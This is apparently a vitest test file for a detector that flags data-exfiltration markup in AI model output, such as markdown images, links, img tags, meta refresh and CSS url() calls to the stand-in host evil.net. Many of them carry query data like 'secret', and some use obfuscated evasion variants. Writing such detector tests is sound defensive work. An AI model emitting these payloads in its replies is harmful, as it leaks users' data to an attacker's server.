import { describe, expect, it } from "vitest";
import { scanText } from "../text/scan-text.ts";
import { createExfiltrationDetector } from "./create-exfiltration-detector.ts";

const detector = createExfiltrationDetector({ allowHosts: ["cdn.example.org", ".example.com"] });

function found(text: string): readonly string[] {
  return detector
    .detect(scanText(text), { source: "model" })
    .map(({ category, score, start, end }) => `${category} ${score} ${text.slice(start, end)}`);
}

describe("createExfiltrationDetector", () => {
  it.each([
    ["Hi ![x](https://evil.net/p.png?q=secret) there", "exfiltration.image 0.9 ![x](https://evil.net/p.png?q=secret)"],
    ["![](//evil.net/a)", "exfiltration.image 0.9 ![](//evil.net/a)"],
    ["![x]( <https://evil.net/a b>)", "exfiltration.image 0.9 ![x]( <https://evil.net/a"],
    ["[docs](https://evil.net/docs)", "exfiltration.link 0.3 [docs](https://evil.net/docs)"],
    ["[docs](https://evil.net/docs?key=abc)", "exfiltration.link 0.7 [docs](https://evil.net/docs?key=abc)"],
    [
      "[x](https://evil.net/QUJDREVGR0hJSktMTU5PUFFSU1RVVg0)",
      "exfiltration.link 0.7 [x](https://evil.net/QUJDREVGR0hJSktMTU5PUFFSU1RVVg0)",
    ],
    ["[1]: https://evil.net/p.png 'title'", "exfiltration.image 0.9 [1]: https://evil.net/p.png"],
    ["<https://evil.net/?a=b>", "exfiltration.link 0.7 <https://evil.net/?a=b>"],
    ['<img alt="a" src="https://evil.net/p.png">', 'exfiltration.html 0.9 <img alt="a" src="https://evil.net/p.png">'],
    ["<IMG SRC=https://evil.net/p>", "exfiltration.html 0.9 <IMG SRC=https://evil.net/p>"],
    ['<img src="\\\\evil.net/p">', 'exfiltration.html 0.9 <img src="\\\\evil.net/p">'],
    ["<img srcset='https://evil.net/p 2x'>", "exfiltration.html 0.9 <img srcset='https://evil.net/p 2x'>"],
    [
      '<meta http-equiv="refresh" content="0; url=https://evil.net/">',
      'exfiltration.html 0.9 <meta http-equiv="refresh" content="0; url=https://evil.net/">',
    ],
    [
      '<div style="background:url(https://evil.net/x)">',
      'exfiltration.html 0.9 <div style="background:url(https://evil.net/x)">',
    ],
    ["![x](https://cdn.example.org.evil.net/)", "exfiltration.image 0.9 ![x](https://cdn.example.org.evil.net/)"],
    ["![x](     \n     https://evil.net/)", "exfiltration.image 0.9 ![x](     \n     https://evil.net/)"],
    ["![x](http&#58;&#x2f;&sol;evil.net)", "exfiltration.image 0.9 ![x](http&#58;&#x2f;&sol;evil.net)"],
    ["![x](https\\:\\/\\/evil.net)", "exfiltration.image 0.9 ![x](https\\:\\/\\/evil.net)"],
    ["![a \\[ `[` b](https://evil.net/)", "exfiltration.image 0.9 [` b](https://evil.net/)"],
    ["![a `]` b](https://evil.net/)", "exfiltration.image 0.9 ](https://evil.net/)"],
    ["> - [a \\] b]:\n   https://evil.net/p.png", "exfiltration.image 0.9 [a \\] b]:\n   https://evil.net/p.png"],
    ["rest of a label]: https://evil.net/", "exfiltration.image 0.9 rest of a label]: https://evil.net/"],
    ['<img src="https:&#47;&#47;evil.net/p">', 'exfiltration.html 0.9 <img src="https:&#47;&#47;evil.net/p">'],
    ["![\n\n[x](https://evil.net/)", "exfiltration.link 0.3 [x](https://evil.net/)"],
    ["![x](https://ev\u200bil.net/)", "exfiltration.image 0.9 ![x](https://ev\u200bil.net/)"],
  ])("finds what is in %j", (text, expected) => {
    expect(found(text)).toEqual([expected]);
  });

  it("finds an image and the link around it", () => {
    expect(found("[![i](https://evil.net/i)](https://evil.net/l)").map((line) => line.split(" ")[0])).toEqual([
      "exfiltration.link",
      "exfiltration.image",
    ]);
  });

  it("parses the first thousand addresses of a flood, and finds all after them", () => {
    const allowed = "![](https://cdn.example.org/a) ";
    expect(found(allowed.repeat(1_000))).toEqual([]);
    expect(found(allowed.repeat(1_000) + "![](https://evil.net/a)")).toEqual([
      "exfiltration.image 0.9 ![](https://evil.net/a)",
    ]);
    expect(found(`a[i](x) `.repeat(2_000))).toEqual([]);
  });

  it.each([
    "![logo](https://cdn.example.org/logo.png)",
    '<a href="https://www.example.com/?q=1">x</a>',
    "[chapter](#chapter) ![local](./image.png) [mail](mailto:ada@example.org)",
    '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
    "plain https://evil.net/ text, a[0](1), x < y",
    "said in [RFC 9110]: https://evil.net/",
    "![x](&bogus;&#9999999;) &amp",
  ])("lets %j pass", (text) => {
    expect(found(text)).toEqual([]);
  });

  it.each([
    "![".repeat(50_000),
    "](".repeat(50_000),
    "<img ".repeat(20_000),
    "<a href=".repeat(12_000),
    "[".repeat(100_000),
    "[a]:".repeat(25_000),
    "\n[".repeat(50_000),
    `![${"\n ".repeat(50_000)}](`,
    `![](${" ".repeat(100_000)}`,
    "url(".repeat(25_000),
  ])("reads any string (%#)", (text) => {
    expect(() => found(text)).not.toThrow();
  });
});
